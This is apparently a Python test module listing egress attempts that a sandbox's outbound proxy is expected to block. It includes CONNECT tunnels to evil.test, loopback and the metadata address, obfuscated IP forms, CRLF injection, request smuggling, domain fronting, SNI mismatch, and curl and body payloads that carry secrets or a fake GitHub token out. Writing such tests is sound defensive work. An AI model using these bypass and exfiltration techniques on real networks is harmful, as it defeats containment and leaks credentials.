"""Attempts by CONNECT and by TLS: tunnels to elsewhere, names that differ, what is sent inside; keys carried off."""

from __future__ import annotations

from tests.wall.egress import OTHERS_SECRET, Attempt


def _connect(says: str, authority: str, rule: str, host: str = "") -> Attempt:
    return Attempt(says, f"with connect({authority!r}) as line: answer(line)", rule, host)


def _inside(says: str, work: str, rule: str, host: str = "api.good.test", *, passes: bool = False) -> Attempt:
    return Attempt(says, f"inside('api.good.test:443', {work})", rule, host, passes=passes)


TUNNELS = (
    _connect("a tunnel to a host that no rule allows", "evil.test:443", "default", "evil.test"),
    _connect("a tunnel to a public address", "93.184.216.34:443", "default", "93.184.216.34"),
    _connect("a tunnel to a public address of IPv6", "[2606:2800:220:1::34]:443", "default", "[2606:2800:220:1::34]"),
    _connect("a tunnel to loopback", "127.0.0.1:8080", "default", "127.0.0.1"),
    _connect("a tunnel to loopback of IPv6", "[::1]:8080", "default", "[::1]"),
    _connect("a tunnel to loopback as a decimal number", "2130706433:443", "canonical"),
    _connect("a tunnel to loopback in hexadecimal", "0x7f.0.0.1:443", "canonical"),
    _connect("a tunnel to loopback in octal", "0177.0.0.01:443", "canonical"),
    _connect("a tunnel to the metadata service", "169.254.169.254:80", "default", "169.254.169.254"),
    _connect("a tunnel to another port of an allowed host", "api.good.test:22", "default", "api.good.test"),
    _connect("a tunnel to the name server", "9.9.9.9:53", "default", "9.9.9.9"),
    _connect("a tunnel to port 0", "api.good.test:0", "canonical"),
    _connect("a tunnel to a port beyond all ports", "api.good.test:65979", "canonical"),
    _connect("a tunnel to a port with a zero before it", "api.good.test:0443", "canonical"),
    _connect("a tunnel with an allowed host as the user", "api.good.test@evil.test:443", "canonical", "evil.test"),
    _connect("a tunnel to a name with an allowed one as its prefix", "api.good.test.evil.test:443", "default"),
    _connect("a tunnel to a name with a dot at its end", "evil.test.:443", "canonical"),
    _connect("a tunnel to a name in large letters", "EVIL.TEST:443", "canonical"),
    _connect("a tunnel to a name with an encoded zero byte", "evil.test%00.good.test:443", "canonical"),
    _connect("a tunnel to a name with a path", "evil.test/.good.test:443", "canonical"),
    _connect("a tunnel to what only another agent's rule allows", "cdn.evil.test:443", "default", "cdn.evil.test"),
    _connect("a tunnel to nothing", ":443", "canonical"),
    Attempt(
        "a tunnel with a line break in its name",
        "talk(b'CONNECT api.good.test\\r\\nevil.test:443 HTTP/1.1\\r\\nHost: api.good.test\\r\\n\\r\\n')",
        "http",
    ),
    Attempt(
        "a tunnel in which no TLS is spoken",
        "with connect('api.good.test:443') as line: line.sendall(get('/public/a')); answer(line)",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "a tunnel in which SSH is spoken",
        "with connect('api.good.test:443') as line: line.sendall(b'SSH-2.0-OpenSSH_9.2\\r\\n'); answer(line)",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "plain requests sent with a CONNECT, before its answer",
        "talk(b'CONNECT api.good.test:443 HTTP/1.1\\r\\nHost: api.good.test:443\\r\\n\\r\\n' "
        "+ get('http://evil.test/', 'evil.test'))",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "TLS for another name than the tunnel's",
        "inside('api.good.test:443', get('/public/a'), name='evil.test')",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "TLS for another allowed name than the tunnel's",
        "inside('api.good.test:443', get('/public/a', 'other.good.test'), name='other.good.test')",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "TLS without a name",
        "context = ssl.create_default_context(); context.check_hostname = False\n"
        "line = connect('api.good.test:443')\n"
        "try: context.wrap_socket(line, server_hostname=None).sendall(get('/public/a')); say('SENT')\n"
        "except OSError as error: say('no way:', error)",
        "tunnel",
        "api.good.test",
    ),
    Attempt(
        "TLS for a name that no rule allows, straight to port 443",
        "context = ssl.create_default_context()\n"
        "try: context.wrap_socket(socket.create_connection(('127.0.0.1', 443)), server_hostname='evil.test'); "
        "say('SENT')\n"
        "except OSError as error: say('no way:', error)",
        "default",
        "evil.test",
    ),
    _inside("another host by the Host header (domain fronting)", "get('/public/a', 'cdn.evil.test')", "canonical"),
    _inside("an absolute target in a tunnel", "get('https://evil.test/public/a')", "canonical"),
    _inside("a tunnel in a tunnel", "get('evil.test:443', 'evil.test:443', method='CONNECT')", "canonical"),
    _inside("a path that no rule allows in a tunnel", "get('/admin')", "default"),
    _inside("a way up in a tunnel", "get('/public/../admin')", "canonical"),
    _inside("a method that no rule allows in a tunnel", "get('/public/a', method='DELETE')", "default"),
    _inside(
        "a second request after an allowed one",
        "get('/public/a').replace(b'Connection: close', b'X: y') + get('/admin')",
        "default",
        passes=True,
    ),
    _inside(
        "a second request hidden by a length and chunks",
        "b'POST /public/a HTTP/1.1\\r\\nHost: api.good.test\\r\\nContent-Length: 5\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'"
        " + get('/admin')",
        "default",
        passes=True,
    ),
    _inside(
        "a second request for another host",
        "get('/public/a').replace(b'Connection: close', b'X: y') + get('/public/b', 'other.good.test')",
        "canonical",
        passes=True,
    ),
    _inside(
        "a WebSocket in a tunnel",
        "get('/public/ws', 'api.good.test', 'Connection: Upgrade', 'Upgrade: websocket', "
        "'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13')",
        "upgrade",
    ),
    Attempt(
        "HTTP/2 in a tunnel",
        "inside('api.good.test:443', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', alpn=('h2', 'http/1.1'))",
        "http",
    ),
    Attempt(
        "a host behind an expired certificate",
        "inside('expired.good.test:443', get('/public/a', 'expired.good.test'))",
        "",
        "expired.good.test",
        passes=True,
        ends="certificate",
    ),
    Attempt(
        "a host behind another's certificate",
        "inside('wrongname.good.test:443', get('/public/a', 'wrongname.good.test'))",
        "",
        "wrongname.good.test",
        passes=True,
        ends="certificate",
    ),
    Attempt(
        "a host behind a self-signed certificate",
        "inside('stranger.good.test:443', get('/public/a', 'stranger.good.test'))",
        "",
        "stranger.good.test",
        passes=True,
        ends="certificate",
    ),
)

TELEMETRY = tuple(
    Attempt(
        f"what the CLI tells {host}",
        f"curl -sS -m 3 https://{host}/v1/x -d '{{}}' >&2; true",
        "telemetry",
        host,
        shell=True,
    )
    for host in ("statsig.anthropic.com", "http-intake.logs.us5.datadoghq.com", "o1158394.ingest.us.sentry.io")
)

TOKEN = "gh" + "p_" + "0123456789abcdefghijABCDEFGHIJ012345"  # put together: no scanner shall find one here
LEAKS = (
    Attempt(
        "another group's secret in a query",
        f"inside('api.good.test:443', get('/public/a?x={OTHERS_SECRET}'))",
        "leak",
        "api.good.test",
    ),
    Attempt(
        "another group's secret in a header",
        f"inside('api.good.test:443', get('/public/a', 'api.good.test', 'X-A: {OTHERS_SECRET}'))",
        "leak",
        "api.good.test",
    ),
    Attempt(
        "another group's secret in a body in base64",
        f"body = base64.b64encode(b'..{OTHERS_SECRET}..')\n"
        "inside('api.good.test:443', b'POST /public/a HTTP/1.1\\r\\nHost: api.good.test\\r\\nConnection: close\\r\\n"
        "Content-Length: %d\\r\\n\\r\\n%s' % (len(body), body))",
        "leak",
        "api.good.test",
        passes=True,
    ),
    Attempt(
        "a token that a person pasted, to a host",
        f"curl -sS -m 8 https://api.good.test/public/a -d 'token={TOKEN}' >&2; true",
        "leak",
        "api.good.test",
        shell=True,
        passes=True,
    ),
    Attempt(
        "a token in a path of a plain call",
        f"curl -sS -m 8 http://api.good.test/public/{TOKEN} >&2; true",
        "leak",
        "api.good.test",
        shell=True,
    ),
    Attempt(
        "a token in the middle of a large body",
        f"body = b'x' * 300_000 + b'{TOKEN}' + b'y' * 300_000\n"
        "inside('api.good.test:443', b'POST /public/a HTTP/1.1\\r\\nHost: api.good.test\\r\\nConnection: close\\r\\n"
        "Content-Length: %d\\r\\n\\r\\n%s' % (len(body), body))",
        "leak",
        "api.good.test",
        passes=True,
    ),
)
